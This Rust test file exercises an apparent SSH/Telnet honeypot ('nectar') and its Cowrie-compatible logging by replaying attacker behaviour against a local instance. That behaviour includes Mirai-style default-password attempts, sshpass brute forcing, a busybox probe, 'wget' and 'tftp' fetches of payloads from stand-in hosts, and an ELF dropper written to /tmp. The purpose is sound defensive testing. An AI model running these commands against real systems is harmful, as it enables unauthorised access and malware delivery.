//! The honeypots inside the real `nectar serve`: what an attacker does over Telnet
//! reaches the store, the events API and the sessions API.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::util::{Server, all_events, client, token};

/// Sends `input` to the Telnet honeypot and reads until it closes.
fn telnet(addr: SocketAddr, input: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    s.write_all(input).unwrap();
    let mut all = Vec::new();
    let _ = s.read_to_end(&mut all);
    String::from_utf8_lossy(&all).into_owned()
}

#[test]
fn telnet_sessions_reach_the_events_and_sessions_api() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let viewer = token(&data, "viewer-1", "viewer");
    let server = Server::start(&data, None);
    let addr = server.telnet.expect("serve printed the Telnet address");
    assert!(addr.ip().is_loopback());
    assert!(
        server
            .ssh_addr
            .as_deref()
            .is_some_and(|a| a.starts_with("127.0.0.1:"))
    );

    let refused = telnet(addr, b"root\r\nvizxv\r\n\x04");
    assert!(refused.contains("Login incorrect"), "{refused}");
    // Control characters typed at the login stay in what is recorded.
    let probed = telnet(addr, b"admin\r\n\x1b[5mpw\r\n\x04");
    assert!(probed.contains("Login incorrect"), "{probed}");
    let shell = telnet(
        addr,
        b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n123456\r\nenable\r\n/bin/busybox ECCHI\r\nwget http://198.51.100.5/x.sh\r\nexit\r\n",
    );
    assert!(shell.contains("ECCHI: applet not found"), "{shell}");

    let c = client();
    let deadline = Instant::now() + Duration::from_secs(30);
    let sessions = loop {
        let body: Value = c
            .get(format!("{}/api/v1/sessions?range=1h", server.url))
            .bearer_auth(&viewer)
            .send()
            .unwrap()
            .json()
            .unwrap();
        let list = body["sessions"].as_array().unwrap().clone();
        if list.iter().any(|s| s["commands"] == 4) || Instant::now() > deadline {
            break list;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let shell_session = sessions
        .iter()
        .find(|s| s["commands"] == 4)
        .unwrap_or_else(|| panic!("{sessions:?}"));
    assert_eq!(shell_session["username"], "root");
    assert_eq!(shell_session["password"], "123456");
    assert_eq!(shell_session["src_ip"], "127.0.0.1");
    assert!(sessions.iter().any(|s| s["failed_logins"] == 1));

    let events = all_events(&server.url, &viewer, "kind=telnet.*");
    let kinds: Vec<&str> = events.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    for kind in [
        "telnet.login.failed",
        "telnet.login.success",
        "telnet.command",
        "telnet.download",
    ] {
        assert!(kinds.contains(&kind), "{kind} not in {kinds:?}");
    }
    let failed = events
        .iter()
        .find(|e| e["kind"] == "telnet.login.failed" && e["data"]["username"] == "root")
        .unwrap();
    assert_eq!(failed["data"]["username"], "root");
    assert_eq!(failed["data"]["password"], "vizxv");
    assert_eq!(failed["dst_port"], addr.port());
    let probed = events
        .iter()
        .find(|e| e["kind"] == "telnet.login.failed" && e["data"]["username"] == "admin")
        .unwrap_or_else(|| panic!("{events:?}"));
    assert_eq!(probed["data"]["password"], "\u{1b}[5mpw");
    assert!(
        probed["summary"].as_str().unwrap().contains("\\x1b[5mpw"),
        "{probed}"
    );
    let download = events
        .iter()
        .find(|e| e["kind"] == "telnet.download")
        .unwrap();
    assert_eq!(download["data"]["url"], "http://198.51.100.5/x.sh");
}

/// Cowrie 3.1's event ids (`cowrie.core.eventids`), the ones Nectar may write.
const COWRIE_EVENT_IDS: &[&str] = &[
    "cowrie.session.connect",
    "cowrie.client.version",
    "cowrie.client.kex",
    "cowrie.client.fingerprint",
    "cowrie.client.size",
    "cowrie.session.params",
    "cowrie.login.success",
    "cowrie.login.failed",
    "cowrie.command.input",
    "cowrie.command.failed",
    "cowrie.command.success",
    "cowrie.session.file_download",
    "cowrie.session.file_download.failed",
    "cowrie.session.file_upload",
    "cowrie.direct-tcpip.request",
    "cowrie.log.closed",
    "cowrie.session.closed",
];

/// The fields each event id carries besides the common ones (Cowrie 3.1.4 output).
fn cowrie_fields(id: &str) -> &'static [&'static str] {
    match id {
        "cowrie.client.version" => &["version"],
        "cowrie.client.kex" => &[
            "hassh",
            "hasshAlgorithms",
            "kexAlgs",
            "keyAlgs",
            "encCS",
            "macCS",
            "compCS",
            "langCS",
        ],
        "cowrie.login.success" | "cowrie.login.failed" => &["username", "password"],
        "cowrie.client.fingerprint" => &["username", "fingerprint", "key", "type"],
        "cowrie.command.input" | "cowrie.command.failed" | "cowrie.command.success" => &["input"],
        "cowrie.session.file_download" => &["url", "outfile", "destfile"],
        "cowrie.session.file_upload" => &["filename", "outfile", "shasum"],
        "cowrie.client.size" => &["width", "height"],
        "cowrie.session.params" => &["arch"],
        "cowrie.log.closed" => &["ttylog", "size", "shasum", "duplicate", "duration_ms"],
        "cowrie.session.closed" => &["duration", "duration_ms"],
        _ => &[],
    }
}

#[test]
fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
    if !crate::capture::have("sshpass", &["-V"]) || !crate::capture::have("ssh", &["-V"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config = dir.path().join("nectar.toml");
    std::fs::write(&config, "[honeypot.cowrie]\nenabled = true\n").unwrap();
    std::fs::create_dir_all(&data).unwrap();
    let token = token(&data, "remote-1", "analyst");
    let mut server = Server::start(&data, Some(&config));
    let ssh = server.ssh_addr.clone().expect("SSH address");
    let telnet_addr = server.telnet.expect("Telnet address");

    // Brute force over SSH (OpenSSH, one connection per password) and Telnet.
    for password in ["letmein", "password1", "qwerty"] {
        let (host, port) = ssh.rsplit_once(':').unwrap();
        let out = std::process::Command::new("timeout")
            .args(["30", "sshpass", "-p", password, "ssh"])
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
            ])
            .args(["-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"])
            .args(["-o", "NumberOfPasswordPrompts=1", "-p", port])
            .arg(format!("root@{host}"))
            .arg("id")
            .output()
            .unwrap();
        assert!(!out.status.success());
    }
    for password in ["vizxv", "xc3511"] {
        let text = telnet(
            telnet_addr,
            format!("root\r\n{password}\r\n\x04").as_bytes(),
        );
        assert!(text.contains("Login incorrect"), "{text}");
    }
    // Interactive sessions: OpenSSH with a terminal, and Telnet.
    let shell = crate::capture::openssh_shell(
        &ssh,
        "root",
        "123456",
        b"uname -a\nwget http://198.51.100.9/a.sh\nexit\n",
    );
    assert!(shell.contains("Linux"), "{shell}");
    // A file sent as the input of an exec (the dropper without scp).
    let (host, port) = ssh.rsplit_once(':').unwrap();
    let mut dropper = std::process::Command::new("timeout")
        .args(["30", "sshpass", "-p", "123456", "ssh"])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args([
            "-o",
            "LogLevel=ERROR",
            "-o",
            "PubkeyAuthentication=no",
            "-p",
            port,
        ])
        .arg(format!("root@{host}"))
        .arg("cat > /tmp/.d; chmod +x /tmp/.d")
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let sent = b"\x7fELF dropped by exec\n";
    dropper.stdin.take().unwrap().write_all(sent).unwrap();
    assert!(dropper.wait().unwrap().success());
    let text = telnet(
        telnet_addr,
        b"root\r\n123456\r\n/bin/busybox ECCHI\r\nnosuchcmd\r\ntftp -g -r mips 198.51.100.9\r\necho -e '#!/bin/sh\\necho pwned' > /tmp/p.sh\r\nexit\r\n",
    );
    assert!(text.contains("ECCHI: applet not found"), "{text}");
    // A remote sensor posts a Telnet session (and an HTTP one, which has no Cowrie
    // form); it resends the batch, then sends it again with one more event.
    let remote = |id: &str, kind: &str, protocol: &str, data: Value| {
        let mut data = data;
        data["session"] = "0a0b0c0d0e0f".into();
        data["protocol"] = protocol.into();
        serde_json::json!({"id": id, "kind": kind, "sensor": "remote-1", "src_ip": "198.51.100.77",
            "src_port": 40001, "dst_ip": "192.0.2.1", "dst_port": 23, "summary": "remote", "data": data})
    };
    let first = vec![
        remote(
            "0193a0c4-0000-7000-8000-000000000001",
            "session.connect",
            "telnet",
            serde_json::json!({}),
        ),
        remote(
            "0193a0c4-0000-7000-8000-000000000002",
            "telnet.login.failed",
            "telnet",
            serde_json::json!({"username": "admin", "password": "remote-pw"}),
        ),
        remote(
            "0193a0c4-0000-7000-8000-000000000003",
            "session.connect",
            "http",
            serde_json::json!({}),
        ),
    ];
    let mut second = first.clone();
    second.push(remote(
        "0193a0c4-0000-7000-8000-000000000004",
        "session.close",
        "telnet",
        serde_json::json!({"duration": 2.0}),
    ));
    for (batch, stored) in [(&first, 3), (&first, 0), (&second, 1)] {
        let answer: Value = client()
            .post(format!("{}/api/v1/events", server.url))
            .bearer_auth(&token)
            .json(batch)
            .send()
            .unwrap()
            .json()
            .unwrap();
        assert_eq!(answer["stored"], stored, "{answer}");
    }
    assert!(server.sigterm().success());

    let log = std::fs::read_to_string(data.join("cowrie.json")).unwrap();
    let lines: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let is_hex12 = |s: &str| s.len() == 12 && s.bytes().all(|b| b.is_ascii_hexdigit());
    let mut seen: std::collections::HashSet<(String, String)> = Default::default();
    for l in &lines {
        let id = l["eventid"].as_str().unwrap();
        assert!(COWRIE_EVENT_IDS.contains(&id), "not a Cowrie eventid: {l}");
        for key in [
            "timestamp",
            "session",
            "protocol",
            "src_ip",
            "dst_ip",
            "sensor",
            "uuid",
            "message",
        ] {
            assert!(l[key].is_string(), "{key} missing in {l}");
        }
        for key in ["src_port", "dst_port"] {
            assert!(l[key].is_u64(), "{key} missing in {l}");
        }
        let ts = l["timestamp"].as_str().unwrap();
        assert!(
            ts.len() == 27 && ts.ends_with('Z') && &ts[10..11] == "T",
            "{ts}"
        );
        assert!(is_hex12(l["session"].as_str().unwrap()), "{l}");
        if l["sensor"] == "remote-1" {
            assert_eq!(l["src_ip"], "198.51.100.77");
        } else {
            assert_eq!(l["src_ip"], "127.0.0.1");
        }
        for key in cowrie_fields(id) {
            assert!(!l[*key].is_null(), "{id} without {key}: {l}");
        }
        seen.insert((l["protocol"].as_str().unwrap().to_owned(), id.to_owned()));
    }
    for (protocol, ids) in [
        (
            "ssh",
            &[
                "cowrie.session.connect",
                "cowrie.client.version",
                "cowrie.client.kex",
                "cowrie.login.failed",
                "cowrie.login.success",
                "cowrie.session.params",
                "cowrie.command.input",
                "cowrie.session.file_download",
                "cowrie.session.file_upload",
                "cowrie.client.size",
                "cowrie.log.closed",
                "cowrie.session.closed",
            ][..],
        ),
        (
            "telnet",
            &[
                "cowrie.session.connect",
                "cowrie.login.failed",
                "cowrie.login.success",
                "cowrie.session.params",
                "cowrie.command.input",
                "cowrie.command.failed",
                "cowrie.session.file_download",
                "cowrie.log.closed",
                "cowrie.session.closed",
            ][..],
        ),
    ] {
        for id in ids {
            assert!(
                seen.contains(&(protocol.to_owned(), (*id).to_owned())),
                "no {id} for {protocol}: {log}"
            );
        }
    }
    let failed: Vec<&Value> = lines
        .iter()
        .filter(|l| l["eventid"] == "cowrie.login.failed")
        .collect();
    // Three SSH, two Telnet, one from the remote sensor (written once, though
    // posted three times).
    assert_eq!(failed.len(), 6, "{failed:?}");
    assert!(
        failed.iter().any(|l| l["sensor"] == "remote-1"
            && l["password"] == "remote-pw"
            && l["dst_port"] == 23)
    );
    assert!(failed.iter().any(|l| l["protocol"] == "telnet"
        && l["username"] == "root"
        && l["password"] == "xc3511"
        && l["message"] == "login attempt [root/xc3511] failed"));
    // Each session opens with connect and ends with closed.
    let mut sessions: std::collections::HashMap<&str, Vec<&str>> = Default::default();
    for l in &lines {
        sessions
            .entry(l["session"].as_str().unwrap())
            .or_default()
            .push(l["eventid"].as_str().unwrap());
    }
    assert_eq!(sessions.len(), 9, "{sessions:?}");
    assert_eq!(
        sessions["0a0b0c0d0e0f"],
        [
            "cowrie.session.connect",
            "cowrie.login.failed",
            "cowrie.session.closed"
        ],
        "the remote session, each event once, the HTTP one left out"
    );
    for ids in sessions.values() {
        assert_eq!(ids.first(), Some(&"cowrie.session.connect"), "{ids:?}");
        assert_eq!(ids.last(), Some(&"cowrie.session.closed"), "{ids:?}");
    }
    let download = lines
        .iter()
        .find(|l| l["protocol"] == "telnet" && l["eventid"] == "cowrie.session.file_download")
        .unwrap();
    assert_eq!(download["url"], "tftp://198.51.100.9/mips");
    // Files: the exec'd input is an upload, the shell's redirection a download
    // of its content (Cowrie's "Saved redir contents"); both with their SHA-256.
    use sha2::Digest;
    let sha = |data: &[u8]| -> String {
        sha2::Sha256::digest(data)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    let upload = lines
        .iter()
        .find(|l| l["eventid"] == "cowrie.session.file_upload")
        .unwrap();
    assert_eq!(upload["filename"], "/tmp/.d");
    assert_eq!(upload["shasum"], sha(sent));
    assert!(data.join(upload["outfile"].as_str().unwrap()).is_file());
    let redir = lines
        .iter()
        .find(|l| l["eventid"] == "cowrie.session.file_download" && l["destfile"] == "/tmp/p.sh")
        .unwrap();
    assert_eq!(redir["shasum"], sha(b"#!/bin/sh\necho pwned\n"));
    // Recordings: their input's hash, and the SSH terminal's size.
    let closed: Vec<&Value> = lines
        .iter()
        .filter(|l| l["eventid"] == "cowrie.log.closed")
        .collect();
    assert_eq!(closed.len(), 2, "{closed:?}");
    for l in &closed {
        assert!(data.join(l["ttylog"].as_str().unwrap()).is_file(), "{l}");
        assert!(l["size"].as_u64().unwrap() > 100, "{l}");
        assert_eq!(l["shasum"].as_str().unwrap().len(), 64, "{l}");
        assert_eq!(l["duplicate"], false);
    }
    let size = lines
        .iter()
        .find(|l| l["eventid"] == "cowrie.client.size")
        .unwrap();
    // (ssh -tt with a pipe for stdin asks for a 0x0 terminal; Cowrie logs it too.)
    assert!(size["width"].is_u64() && size["height"].is_u64(), "{size}");
}

/// A user name and password that are not UTF-8 (#26 item 10): paramiko gets
/// "Authentication failed" (not a dropped connection), as from OpenSSH, and
/// the attempt is an `ssh.login.failed` with the bytes kept.
#[test]
fn ssh_credentials_that_are_not_utf8_are_a_failed_login() {
    let Some(python) = ["/usr/bin/python3", "python3"].into_iter().find(|python| {
        std::process::Command::new(python)
            .args(["-c", "import paramiko"])
            .output()
            .is_ok_and(|o| o.status.success())
    }) else {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "paramiko is needed (apt-get install python3-paramiko)"
        );
        eprintln!("skipping: paramiko not installed");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let viewer = token(&data, "viewer-1", "viewer");
    let server = Server::start(&data, None);
    let ssh = server.ssh_addr.clone().expect("the SSH honeypot runs");
    let (host, port) = ssh.rsplit_once(':').unwrap();
    let script = r#"
import sys, paramiko
for user, password in [(b"root\xff\xfe", b"pa\xffss\x80"), ("root", "wrong-password")]:
    t = paramiko.Transport((sys.argv[1], int(sys.argv[2])))
    t.start_client(timeout=20)
    try:
        t.auth_password(user, password)
        print("accepted")
    except paramiko.AuthenticationException as e:
        print("denied:", e)
    t.close()
"#;
    let out = std::process::Command::new("timeout")
        .args(["60", python, "-c", script, host, port])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "denied: Authentication failed.\ndenied: Authentication failed.\n",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    let failed = loop {
        let events = all_events(&server.url, &viewer, "kind=ssh.login.failed");
        if events.len() >= 2 || Instant::now() > deadline {
            break events;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let raw = failed
        .iter()
        .find(|e| e["data"]["username_b64"].is_string())
        .unwrap_or_else(|| panic!("{failed:?}"));
    // base64 of b"root\xff\xfe" and b"pa\xffss\x80".
    assert_eq!(raw["data"]["username_b64"], "cm9vdP/+");
    assert_eq!(raw["data"]["password_b64"], "cGH/c3OA");
    assert_eq!(raw["data"]["username"], "root\u{fffd}\u{fffd}");
    assert_eq!(raw["data"]["password"], "pa\u{fffd}ss\u{fffd}");
    assert!(
        failed
            .iter()
            .any(|e| e["data"]["password"] == "wrong-password")
    );
}
